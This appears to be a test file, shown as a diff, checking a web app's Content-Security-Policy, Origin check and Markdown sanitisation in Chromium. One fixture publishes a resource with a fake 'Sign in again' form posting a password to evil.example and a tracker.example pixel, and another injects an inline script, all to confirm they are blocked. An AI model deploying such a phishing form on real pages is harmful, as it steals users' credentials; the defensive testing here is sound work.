@@ -1,0 +1,151 @@
+import type { Catalogue } from '@mop/shared';
+import type { BrowserContext, Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import {
+  DEMO_PASSWORD,
+  login,
+  useStackAndBrowser,
+  waitForConnectionState,
+  waitForServiceWorker,
+  watchErrors
+} from './harness.ts';
+
+/**
+ * The Content-Security-Policy measured in Chromium (docs/security.md): the public pages, the signed-in app and its
+ * offline start from the service worker run with no violation at all, while a script injected into the page is
+ * refused; resource Markdown loses its forms, password fields and remote images.
+ */
+describe('web hardening in the browser', () => {
+  const suite = useStackAndBrowser();
+
+  /** Reports every CSP violation of every page of the device as a console error the test collects. */
+  async function watchViolations(device: BrowserContext, violations: string[]): Promise<void> {
+    await device.addInitScript(() => {
+      document.addEventListener('securitypolicyviolation', (event) =>
+        console.error(`CSP violation: ${event.effectiveDirective} blocked ${event.blockedURI || 'inline'}`)
+      );
+    });
+    device.on('console', (message) => {
+      if (message.type() === 'error' && /Content Security Policy|CSP violation/i.test(message.text()))
+        violations.push(`${message.page()?.url() ?? '?'}: ${message.text()}`);
+    });
+  }
+
+  async function publishHostileResource(): Promise<string> {
+    const post = async <T>(path: string, body: unknown, cookie = ''): Promise<{ body: T; cookie: string }> => {
+      const response = await fetch(`${suite.stack.url}${path}`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', origin: suite.stack.url, ...(cookie ? { cookie } : {}) },
+        body: JSON.stringify(body)
+      });
+      if (!response.ok) throw new Error(`POST ${path}: ${response.status} ${await response.text()}`);
+      return { body: (await response.json()) as T, cookie: response.headers.get('set-cookie')?.split(';')[0] ?? '' };
+    };
+    const { cookie } = await post('/api/auth/login', { email: 'coordinator@example.org', password: DEMO_PASSWORD });
+    const catalogue = (await (await fetch(`${suite.stack.url}/api/catalogue`)).json()) as Catalogue;
+    const { body } = await post<{ id: string }>(
+      '/api/resources',
+      {
+        title: 'A page that tries too much',
+        summary: 'Forms, password fields and a tracking pixel.',
+        type: 'page',
+        audience: ['mentor'],
+        language: 'en',
+        collection: catalogue.collections[0]!.id,
+        body: [
+          '## Sign in again',
+          '',
+          '<form action="https://evil.example/steal"><input type="password" name="p"><button>Go</button></form>',
+          '',
+          '![pixel](https://tracker.example/pixel.png) ![logo](/icons/icon.svg)',
+          '',
+          '- [ ] A task that stays a checkbox'
+        ].join('\n')
+      },
+      cookie
+    );
+    return body.id;
+  }
+
+  it('runs the public pages, the signed-in app and its offline start under the policy with no violation', async () => {
+    const violations: string[] = [];
+    const errors: string[] = [];
+    const device = await suite.device();
+    await watchViolations(device, violations);
+    const page = await device.newPage();
+    watchErrors(page, 'visitor', errors);
+
+    // Public pages, rendered on the server, then hydrated.
+    const learn = await page.goto('/learn');
+    const policy = learn?.headers()['content-security-policy'] ?? '';
+    expect(policy).toContain("frame-ancestors 'none'");
+    expect(policy).toMatch(/script-src 'self' 'sha256-[^']+'/);
+    expect(policy.split(';').find((directive) => directive.includes('script-src'))).not.toContain('unsafe');
+    await page.getByRole('heading', { level: 1 }).first().waitFor();
+    const catalogue = (await (await fetch(`${suite.stack.url}/api/catalogue`)).json()) as Catalogue;
+    await page.goto(`/learn/${catalogue.resources[0]!.id}`);
+    await page.getByRole('heading', { name: catalogue.resources[0]!.title }).waitFor();
+    await page.goto('/verify');
+    await page.getByRole('heading', { level: 1 }).first().waitFor();
+
+    // The signed-in app: the pair's workspace and its messages.
+    await login(page, 'mentor@example.org');
+    await page
+      .getByRole('link', { name: /open workspace with/i })
+      .first()
+      .click();
+    await page.waitForURL(/\/mentoring\/[^/]+$/);
+    await page.getByRole('heading', { name: 'Session notes' }).waitFor();
+    const workspace = new URL(page.url()).pathname;
+    await waitForServiceWorker(page);
+    await waitForConnectionState(page, 'synced');
+
+    // Offline: the service worker's copy of the shell boots the app, under the same policy.
+    await device.setOffline(true);
+    await page.reload();
+    await waitForConnectionState(page, 'offline');
+    await page.getByText(/Offline — signed in as/).waitFor();
+    expect(new URL(page.url()).pathname).toBe(workspace);
+    await page.getByRole('heading', { name: 'Session notes' }).waitFor();
+    await device.setOffline(false);
+
+    expect(violations).toEqual([]);
+    expect(errors).toEqual([]);
+
+    // The policy is in force: a script injected into the page does not run, and the browser says why.
+    const ran = await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'document.body.dataset.injected = "yes"';
+      document.body.append(script);
+      return document.body.dataset.injected ?? 'no';
+    });
+    expect(ran).toBe('no');
+    await expect.poll(() => violations.some((line) => /script-src/.test(line))).toBe(true);
+  });
+
+  it('lets the app’s own state-changing requests through the Origin check', async () => {
+    const device = await suite.device();
+    const page = await device.newPage();
+    await login(page, 'mentee@example.org');
+    // Chromium sends Origin (and Sec-Fetch-Site: same-origin) with the app's own POST.
+    const status = await page.evaluate(async () => (await fetch('/api/calendar/token', { method: 'POST' })).status);
+    expect(status).toBe(201);
+  });
+
+  it('renders resource Markdown with the strict profile: no form, no password field, no remote image', async () => {
+    const id = await publishHostileResource();
+    const violations: string[] = [];
+    const device = await suite.device();
+    await watchViolations(device, violations);
+    const page: Page = await device.newPage();
+    await page.goto(`/learn/${id}`);
+    await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
+    const article = page.locator('article');
+    await expect.poll(() => article.locator('img[src="/icons/icon.svg"]').count()).toBe(1);
+    expect(await page.locator('form').count()).toBe(0);
+    expect(await page.locator('input[type="password"]').count()).toBe(0);
+    expect(await page.locator('img[src*="tracker.example"]').count()).toBe(0);
+    expect(await article.locator('input[type="checkbox"][disabled]').count()).toBe(1);
+    expect(violations).toEqual([]);
+  });
+});
